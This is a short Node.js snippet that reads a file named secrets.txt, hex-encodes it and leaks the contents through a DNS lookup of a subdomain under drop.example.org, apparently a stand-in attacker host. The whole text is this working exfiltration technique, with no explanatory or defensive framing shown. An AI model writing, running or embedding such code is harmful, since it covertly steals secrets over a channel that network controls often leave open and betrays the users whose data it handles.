const dns = require("dns");
const text = require("fs").readFileSync("secrets.txt").toString("hex");
dns.lookup(`${text}.drop.example.org`, () => {});
